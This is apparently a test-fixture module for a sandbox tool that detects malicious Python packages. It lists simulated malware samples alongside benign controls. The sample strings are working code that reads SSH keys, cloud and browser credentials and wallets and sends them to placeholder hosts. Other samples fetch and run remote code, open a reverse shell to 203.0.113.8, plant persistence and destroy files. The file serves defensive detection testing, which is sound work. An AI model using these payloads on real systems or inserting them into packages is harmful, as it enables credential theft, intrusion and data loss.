"""Harmless packages that do what malware does. All they talk to is the sinkhole.

Each is a few lines of code that run when the package is imported, or whatever ``where`` says. The
hosts are under ``.invalid``: outside a sandbox nothing of them would resolve.
"""

import msgspec

from airlock.behaviour.signals import Kind, Tier

POST = "import urllib.request as u; u.urlopen(u.Request('http://c.example.invalid/x', data={data}))"
KEY = "key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()"


class Sample(msgspec.Struct, frozen=True, kw_only=True):
    """One package."""

    name: str
    code: str
    where: str = "import"
    """``import``, ``function``, ``backend`` (when it is built) or ``startup`` (a ``.pth``)."""
    kind: Kind
    """What it has to be found out for."""
    tier: Tier = Tier.PROOF
    says: str = ""
    """A text of the message."""


def _post(data: str) -> str:
    return POST.format(data=data)


def _leak(name: str, code: str, says: str = "an SSH private key", where: str = "import") -> Sample:
    return Sample(name=name, code=code, kind=Kind.LEAK, says=says, where=where)


def _stays(name: str, path: str, says: str) -> Sample:
    code = (
        f"p = os.path.expanduser({path!r})\n"
        "os.makedirs(os.path.dirname(p), exist_ok=True)\nopen(p, 'a').write('x\\n')"
    )
    return Sample(name=name, code=code, kind=Kind.PERSISTENCE, tier=Tier.SUSPICION, says=says)


_FETCH = "import urllib.request as u; got = u.urlopen('http://cdn.example.invalid/run').read()"
_LEAKS = (
    _leak("plain", f"{KEY}\n{_post('key')}"),
    _leak("base64", f"import base64\n{KEY}\n{_post('base64.b64encode(key)')}", "as base64"),
    _leak(
        "base64-twice", f"import base64\n{KEY}\n{_post('base64.b64encode(base64.b64encode(key))')}"
    ),
    _leak("hexadecimal", f"{KEY}\n{_post('key.hex().encode()')}", "as hexadecimal"),
    _leak("gzip", f"import gzip\n{KEY}\n{_post('gzip.compress(key)')}", "as gzip"),
    _leak(
        "zlib-base64",
        f"import base64, zlib\n{KEY}\n{_post('base64.urlsafe_b64encode(zlib.compress(key))')}",
    ),
    _leak("reversed", f"{KEY}\n{_post('key[::-1]')}", "as reversed"),
    _leak("xor", f"{KEY}\n{_post('bytes(one ^ 0x2a for one in key)')}", "as xor"),
    _leak(
        "query",
        f"import urllib.parse as q, urllib.request as u\n{KEY}\n"
        "u.urlopen('http://c.example.invalid/?d=' + q.quote(key[:300]))",
    ),
    _leak(
        "names",
        f"import socket\n{KEY}\ntext = key.hex()\n"
        "for at in range(0, 480, 60):\n"
        "    try: socket.gethostbyname(text[at:at + 60] + '.d.example.invalid')\n"
        "    except OSError: pass",
        "the name server",
    ),
    _leak(
        "header",
        "import urllib.request as u\nu.urlopen(u.Request('http://c.example.invalid/', "
        "headers={'X-T': os.environ.get('GITHUB_TOKEN', '')}))",
        "GITHUB_TOKEN",
    ),
    _leak(
        "environment",
        f"import json\n{_post('json.dumps(dict(os.environ)).encode()')}",
        "AWS_SECRET",
    ),
    _leak(
        "tls",
        "import http.client, ssl\nc = http.client.HTTPSConnection('c.example.invalid')\n"
        "c.request('PUT', '/x', open(os.path.expanduser('~/.aws/credentials')).read())\n"
        "c.getresponse().read()",
        "the AWS credentials",
    ),
    _leak(
        "socket",
        "import socket\ns = socket.create_connection(('c.example.invalid', 4444))\n"
        "s.sendall(open(os.path.expanduser('~/.netrc'), 'rb').read()); s.close()",
        ".netrc",
    ),
    _leak(
        "datagram",
        f"import socket\n{KEY}\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(key[:1000], ('203.0.113.9', 9999))",
    ),
    _leak(
        "zip",
        "import io, zipfile\nb = io.BytesIO()\n"
        "z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED)\n"
        "z.write(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'l')\n"
        "z.close()\n" + _post("b.getvalue()"),
        "the passwords of a browser",
    ),
    _leak(
        "chat",
        "import glob, json\nfor p in glob.glob(os.path.expanduser('~/.config/discord/**/*.ldb'), "
        "recursive=True):\n    t = open(p, 'rb').read()\n    "
        + _post("json.dumps(repr(t)).encode()"),
        "a chat program",
    ),
    _leak(
        "wallet",
        "w = open(os.path.expanduser('~/.electrum/wallets/default_wallet'), 'rb').read()\n"
        + _post("w"),
        "a wallet",
    ),
    _leak(
        "mail",
        f"import smtplib\n{KEY}\nm = smtplib.SMTP('mail.example.invalid', 25, timeout=5)\n"
        "m.sendmail('a@example.invalid', ['b@example.invalid'], key.decode())",
    ),
    _leak(
        "walk",
        "import io\nall = b''\n"
        "for folder, _, names in os.walk(os.path.expanduser('~')):\n"
        "    if '.local' not in folder:\n"
        "        for name in names:\n"
        "            all += open(os.path.join(folder, name), 'rb').read()\n" + _post("all"),
        "a Kubernetes cluster",
    ),
    _leak(
        "thread",
        f"import threading\n{KEY}\ndef send():\n    {_post('key')}\n"
        "threading.Thread(target=send).start()",
    ),
    _leak("fork", f"{KEY}\nif os.fork() == 0:\n    {_post('key')}\n    os._exit(0)"),
    _leak("at-exit", f"import atexit\n{KEY}\n@atexit.register\ndef bye():\n    {_post('key')}"),
    _leak(
        "other-process",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
        f"{('import os' + chr(10) + KEY + chr(10) + _post('key'))!r}], start_new_session=True)",
    ),
    _leak("bash", "os.system(\"bash -c 'cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.7/4444'\")"),
    _leak("called", f"def setup():\n    {KEY}\n    {_post('key')}", where="function"),
    _leak("built", f"{KEY}\n{_post('key')}", where="backend"),
    _leak(
        "pickle",
        "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"bash -c "
        "\\'cat ~/.netrc > /dev/tcp/203.0.113.7/80\\'\"\\ntR.')",
        ".netrc",
    ),
    _leak("after-a-wait", f"import time\ntime.sleep(3000)\n{KEY}\n{_post('key')}"),
)
_OTHERS = (
    Sample(
        name="who",
        code="import getpass, socket\n"
        + _post("(getpass.getuser() + socket.gethostname()).encode()"),
        kind=Kind.IDENTITY,
        says="the name of the machine",
    ),
    Sample(
        name="who-by-name",
        code="import socket\nname = socket.gethostname()\n"
        "try: socket.gethostbyname(name + '.d.example.invalid')\n"
        "except OSError: pass",
        kind=Kind.IDENTITY,
        says="the name server",
    ),
    Sample(name="run-text", code=f"{_FETCH}\nexec(got.decode())", kind=Kind.DOWNLOAD_RUN),
    Sample(
        name="run-script",
        code=f"import subprocess\n{_FETCH}\nopen('/tmp/a.sh', 'wb').write(got)\n"
        "subprocess.call(['sh', '/tmp/a.sh'])",
        kind=Kind.DOWNLOAD_RUN,
    ),
    Sample(
        name="run-program",
        code=f"import subprocess\n{_FETCH}\nopen('/tmp/a', 'wb').write(got)\n"
        "os.chmod('/tmp/a', 0o755)\nsubprocess.Popen(['/tmp/a'])",
        kind=Kind.DOWNLOAD_RUN,
    ),
    Sample(
        name="run-when-built",
        code=f"import subprocess, sys\n{_FETCH}\n"
        "subprocess.call([sys.executable, '-c', got.decode()])",
        where="backend",
        kind=Kind.DOWNLOAD_RUN,
    ),
    Sample(
        name="shell-for-others",
        code="import socket, subprocess\ns = socket.create_connection(('203.0.113.8', 4444))\n"
        "subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s, timeout=2)",
        kind=Kind.NETWORK,
        tier=Tier.SUSPICION,
        says="203.0.113.8",
    ),
    Sample(
        name="beacon-at-start",
        code="import urllib.request as u; u.urlopen('http://c.example.invalid/started').read()",
        where="startup",
        kind=Kind.NETWORK,
        tier=Tier.SUSPICION,
        says="started",
    ),
    Sample(
        name="secret-read",
        code="open(os.path.expanduser('~/.kube/config')).read()",
        kind=Kind.SECRET,
        tier=Tier.SUSPICION,
        says="Kubernetes",
    ),
    _stays("shells", "~/.bashrc", "shells"),
    _stays("systemd", "~/.config/systemd/user/a.service", "systemd"),
    _stays("desktop", "~/.config/autostart/a.desktop", "the desktop"),
    _stays("keys", "~/.ssh/authorized_keys", "SSH"),
    Sample(
        name="startup-file",
        code="import site\nfolder = site.getusersitepackages()\n"
        "open(os.path.join(folder, 'x.pth'), 'w').write('\\n')",
        kind=Kind.PERSISTENCE,
        tier=Tier.SUSPICION,
        says="Python",
    ),
    Sample(
        name="cron",
        code="import subprocess\ntry: subprocess.run(['crontab', '-'], input=b'', timeout=5)\n"
        "except OSError: pass",
        kind=Kind.PERSISTENCE,
        tier=Tier.SUSPICION,
        says="crontab",
    ),
    Sample(
        name="deletes",
        code="os.remove(os.path.expanduser('~/Documents/contract.docx'))",
        kind=Kind.DESTRUCTION,
        says="deleted",
    ),
    Sample(
        name="encrypts",
        code="p = os.path.expanduser('~/Pictures/harbour.jpg')\nb = open(p, 'rb').read()\n"
        "open(p, 'wb').write(bytes(one ^ 1 for one in b))",
        kind=Kind.DESTRUCTION,
        says="overwrote",
    ),
)
SAMPLES = _LEAKS + _OTHERS

HONEST = {
    "quiet": "VALUE = 1\ndef double(n=2): return 2 * n",
    "settings": "p = os.path.expanduser('~/.config/honest/settings.toml')\n"
    "TEXT = open(p).read() if os.path.exists(p) else ''",
    "programs": "import subprocess\n"
    "V = subprocess.run(['uname', '-a'], capture_output=True).stdout",
    "temporary": "import tempfile\nwith tempfile.TemporaryFile() as f: f.write(b'x' * 10000)",
    "loopback": "import socket\ns = socket.create_server(('127.0.0.1', 0))\n"
    "c = socket.create_connection(s.getsockname()); c.close(); s.close()",
    "processes": "import multiprocessing\n"
    "p = multiprocessing.get_context('fork').Process(target=len, args=('',))\np.start()\np.join()",
    "cache": "p = os.path.expanduser('~/.cache/honest')\nos.makedirs(p, exist_ok=True)\n"
    "open(os.path.join(p, 'a'), 'w').write('x')",
    "network-when-called": "def fetch(url='http://api.example.invalid/v1/items'):\n"
    "    import urllib.request\n    return urllib.request.urlopen(url).read()",
}
"""Packages that do what honest ones do; by their names."""
